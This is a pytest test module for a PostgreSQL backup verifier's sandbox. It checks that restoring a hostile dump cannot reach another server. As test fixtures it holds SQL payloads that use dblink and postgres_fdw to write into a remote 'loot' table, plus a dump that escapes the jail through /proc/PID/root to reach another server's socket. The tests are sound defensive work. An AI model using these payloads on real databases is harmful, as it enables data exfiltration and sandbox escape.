"""A restored dump is untrusted code, and the network is a way out of the sandbox as real as a shell: no
connection leaves the local sandbox, by TCP or by another server's unix socket.

The "remote" is a second live cluster that logs every connection, reachable by TCP on 127.0.0.1 and by a
unix socket in a directory anyone may traverse, trusting both (as many container and development set-ups
do). Production itself may reach it (its foreign server is production's business); what production sends
names production's database, what a sandbox would send names the restored one.
"""

from __future__ import annotations

import gzip
import os
import re
import secrets
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
import yaml
from psycopg import sql

from tests.e2e.conftest import verifier
from tests.integration.conftest import SourceDatabase
from verifier.config import VerifyConfig
from verifier.pipeline import commands
from verifier.pipeline.selftest import run_selftest
from verifier.postgres import binaries
from verifier.postgres.throwaway.cluster import TemporaryCluster
from verifier.report import Report, Status
from verifier.sandbox.local import LocalSandbox
from verifier.sandbox.network import network_facts

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox account is used when the agent runs as root")

# every route out, each guarded so that only a copy outside production's own database takes it
LEAKS = """
CREATE EXTENSION postgres_fdw;
CREATE EXTENSION dblink;
CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw
    OPTIONS (host '127.0.0.1', port '{port}', dbname 'postgres', application_name 'fdw from %d');
CREATE USER MAPPING FOR PUBLIC SERVER remote OPTIONS (user 'postgres', password 'mapping-secret');
CREATE FOREIGN TABLE remote_loot (note text) SERVER remote OPTIONS (table_name 'loot');
CREATE FUNCTION leak() RETURNS integer VOLATILE LANGUAGE plpgsql AS $leak$
BEGIN
    IF current_database() = '{production}' THEN
        RETURN 0;
    END IF;
    INSERT INTO public.remote_loot VALUES ('fdw written from ' || current_database());
    PERFORM public.dblink_exec('host=127.0.0.1 port={port} dbname=postgres user=postgres application_name=dblink_tcp',
                        'INSERT INTO loot VALUES (''dblink tcp from ' || current_database() || ''')');
    PERFORM public.dblink_exec(
        'host={socket_dir} port={port} dbname=postgres user=postgres application_name=dblink_unix',
                        'INSERT INTO loot VALUES (''dblink unix from ' || current_database() || ''')');
    RETURN 1;
END
$leak$;
CREATE MATERIALIZED VIEW leaky AS SELECT leak() AS written;
CREATE MATERIALIZED VIEW remote_count AS SELECT count(*) AS notes FROM remote_loot;
CREATE VIEW remote_view AS SELECT note FROM remote_loot;
"""

# a legacy plain dump: its SQL runs as the sandbox's superuser, and tries the same ways directly
PLAIN_LEAKS = """--
-- PostgreSQL database dump
--

CREATE EXTENSION IF NOT EXISTS dblink;
CREATE EXTENSION IF NOT EXISTS postgres_fdw;
CREATE TABLE cities (name text);
SELECT dblink_exec('host={socket_dir} port={port} dbname=postgres user=postgres application_name=plain_unix',
                   'INSERT INTO loot VALUES (''plain dblink unix'')');
SELECT dblink_exec('host=127.0.0.1 port={port} dbname=postgres user=postgres application_name=plain_tcp',
                   'INSERT INTO loot VALUES (''plain dblink tcp'')');
CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw
    OPTIONS (host '127.0.0.1', port '{port}', dbname 'postgres', application_name 'plain_fdw');
CREATE USER MAPPING FOR PUBLIC SERVER remote OPTIONS (user 'postgres', password 'mapping-secret');
CREATE FOREIGN TABLE remote_loot (note text) SERVER remote OPTIONS (table_name 'loot');
INSERT INTO remote_loot VALUES ('plain fdw');

--
-- PostgreSQL database dump complete
--
"""

_AUTHORIZED = re.compile(r"connection authorized: .*application_name=(?P<name>\S+)")


@pytest.fixture(scope="module")
def remote(postgres_installation: binaries.Installation) -> Iterator[TemporaryCluster]:
    """Another server on this host: logs connections, trusts TCP and its unix socket, holds table `loot`."""
    with TemporaryCluster(
        postgres_installation, tcp=True, settings={"log_connections": "on", "log_line_prefix": "'%m '"}
    ) as cluster:
        for directory in (cluster.socket_dir.parent, cluster.socket_dir):
            directory.chmod(0o755)  # as /run/postgresql: any local account reaches the socket
        with cluster.connect() as connection:
            connection.execute("CREATE TABLE loot (note text)")
            connection.execute("GRANT ALL ON loot TO PUBLIC")
        yield cluster


class RemoteWatch:
    """What reached the remote since it was created: connections (by application name) and rows."""

    def __init__(self, remote: TemporaryCluster, production_db: str) -> None:
        self.remote = remote
        self.production_db = production_db
        self.log_offset = remote.log_file.stat().st_size

    def foreign_connections(self) -> list[str]:
        """Returns the log lines of connections production did not make since the watch began."""
        with self.remote.log_file.open(encoding="utf-8", errors="replace") as log:
            log.seek(self.log_offset)
            lines = log.read().splitlines()
        received = [line for line in lines if "connection received" in line or "connection authorized" in line]
        ours = {f"fdw from {self.production_db}", "watch"}
        authorized = [line for line in received if "connection authorized" in line]
        foreign = [line for line in authorized if (m := _AUTHORIZED.search(line)) is None or m["name"] not in ours]
        # a connection refused before authorization (a wrong password) still reached the remote
        assert len([line for line in received if "connection received" in line]) == len(authorized), lines
        return foreign

    def rows(self) -> list[str]:
        with psycopg.connect(**self.remote.connection_kwargs(), application_name="watch") as connection:  # type: ignore[arg-type]
            return [str(row[0]) for row in connection.execute("SELECT note FROM loot ORDER BY note").fetchall()]


@pytest.fixture
def leaky_db(source_db: SourceDatabase, remote: TemporaryCluster) -> Iterator[RemoteWatch]:
    source_db.execute(LEAKS.format(port=remote.port, production=source_db.dbname, socket_dir=remote.socket_dir))
    watch = RemoteWatch(remote, source_db.dbname)
    yield watch
    with psycopg.connect(**remote.connection_kwargs(), application_name="watch", autocommit=True) as connection:  # type: ignore[arg-type]
        connection.execute("TRUNCATE loot")


def named(report: Report, status: Status) -> list[str]:
    return [f"{result.name}: {result.summary} {result.details}" for result in report.results if result.status == status]


@pytest.mark.parametrize("dump_format", ["custom", "plain"])
def test_a_run_and_a_selftest_reach_no_foreign_server(
    source_db: SourceDatabase, leaky_db: RemoteWatch, tmp_path: Path, dump_format: str
) -> None:
    config = source_db.config(tmp_path / "repo", dump={"format": dump_format})

    report = commands.run(config)
    outcome = run_selftest(config)

    assert leaky_db.rows() == []
    assert leaky_db.foreign_connections() == [], "\n".join(leaky_db.foreign_connections())
    assert named(report, Status.CRITICAL) == [], named(report, Status.CRITICAL)
    warnings = " ".join(named(report, Status.WARNING))
    for view in ("materialized view public.leaky", "materialized view public.remote_count", "view public.remote_view"):
        assert f"{view}: not verifiable in the sandbox: needs foreign server remote" in warnings
    assert outcome.passed, outcome.result()


def test_a_plain_dump_reaches_no_other_server(
    source_db: SourceDatabase, remote: TemporaryCluster, tmp_path: Path
) -> None:
    watch = RemoteWatch(remote, source_db.dbname)
    hostile = tmp_path / f"legacy-{secrets.token_hex(3)}.sql.gz"
    hostile.write_bytes(gzip.compress(PLAIN_LEAKS.format(port=remote.port, socket_dir=remote.socket_dir).encode()))
    config = source_db.config(tmp_path / "repo")

    report = commands.check(config, backup_file=hostile)

    assert watch.rows() == []
    assert watch.foreign_connections() == []
    assert report.results, report.could_not_run


def test_the_remote_is_reachable_without_the_jail(source_db: SourceDatabase, remote: TemporaryCluster) -> None:
    """The control: the same dblink call from an ordinary server does reach the remote by both ways."""
    watch = RemoteWatch(remote, source_db.dbname)
    source_db.execute("CREATE EXTENSION IF NOT EXISTS dblink")
    for host, name in ((remote.socket_dir, "control_unix"), ("127.0.0.1", "control_tcp")):
        connect = f"host={host} port={remote.port} dbname=postgres user=postgres application_name={name}"
        source_db.execute(sql.SQL("SELECT dblink_exec(%s, 'SET search_path = public')"), (connect,))
    assert [line.rsplit("=", 1)[-1] for line in watch.foreign_connections()] == ["control_unix", "control_tcp"]


def doctor(tmp_path: Path, source_db: SourceDatabase, **verify: object) -> tuple[int, str]:
    config = tmp_path / "config.yaml"
    data = {
        "source": {"host": source_db.cluster.host, "port": source_db.cluster.port, "dbname": source_db.dbname},
        "repository": {"path": str(tmp_path / "repo")},
        "verify": verify,
    }
    config.write_text(yaml.safe_dump(data))
    completed = verifier("doctor", "--config", config)
    line = next((line for line in completed.stdout.splitlines() if line.startswith("sandbox network:")), "")
    return completed.returncode, " ".join(line.split())


def test_doctor_tries_whether_the_sandbox_reaches_the_network(source_db: SourceDatabase, tmp_path: Path) -> None:
    _, line = doctor(tmp_path, source_db)
    assert line.startswith("sandbox network: none (tried: TCP 127.0.0.1:"), line
    assert "another server's unix socket: No such file or directory" in line
    [tried] = network_facts(VerifyConfig())
    assert not tried.exposed, tried.value

    _, line = doctor(tmp_path, source_db, allow_network=True)
    assert "not cut off (verify.allow_network: true)" in line
    assert network_facts(VerifyConfig(allow_network=True))[0].exposed

    server = {"host": source_db.cluster.host, "port": source_db.cluster.port, "user": "postgres"}
    _, line = doctor(tmp_path, source_db, sandbox="server", server=server)
    assert "not isolated: verify.sandbox server" in line


def test_the_jailed_sandbox_starts_under_a_strict_umask(postgres_installation: binaries.Installation) -> None:
    """The directories leading to the sandbox's own, recreated inside the jail, must stay traversable by
    the sandbox account whatever the agent's umask (CI and hardened hosts run with 077)."""
    previous = os.umask(0o077)
    try:
        with LocalSandbox(postgres_installation, VerifyConfig(), None) as sandbox, sandbox.connect() as connection:
            assert connection.execute("SELECT 1").fetchone() == (1,)
    finally:
        os.umask(previous)


# a plain dump that looks for another process of the sandbox account outside the jail (psql, restoring it)
# and connects through that process's view of the filesystem (/proc/PID/root) to the remote's socket
PROC_ROOT_LEAK = """--
-- PostgreSQL database dump
--

CREATE EXTENSION IF NOT EXISTS dblink;
CREATE TABLE cities (name text);
DO $escape$
DECLARE
    process text;
BEGIN
    FOR process IN SELECT entry FROM pg_ls_dir('/proc') AS entry WHERE entry ~ '^[0-9]+$' LOOP
        BEGIN
            PERFORM pg_stat_file('/proc/' || process || '/root{socket_dir}/.s.PGSQL.{port}');
            PERFORM dblink_exec('host=/proc/' || process || '/root{socket_dir} port={port} dbname=postgres '
                                || 'user=postgres application_name=proc_root',
                                'INSERT INTO loot VALUES (''through /proc/' || process || '/root'')');
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
END
$escape$;

--
-- PostgreSQL database dump complete
--
"""


def test_a_plain_dump_cannot_reach_out_through_another_process_root(
    source_db: SourceDatabase, remote: TemporaryCluster, tmp_path: Path
) -> None:
    """psql, restoring the file as the sandbox account, must not lend the jailed server its view of the host."""
    watch = RemoteWatch(remote, source_db.dbname)
    hostile = tmp_path / f"legacy-{secrets.token_hex(3)}.sql.gz"
    hostile.write_bytes(gzip.compress(PROC_ROOT_LEAK.format(port=remote.port, socket_dir=remote.socket_dir).encode()))

    report = commands.check(source_db.config(tmp_path / "repo"), backup_file=hostile)

    assert watch.rows() == []
    assert watch.foreign_connections() == []
    assert report.results, report.could_not_run
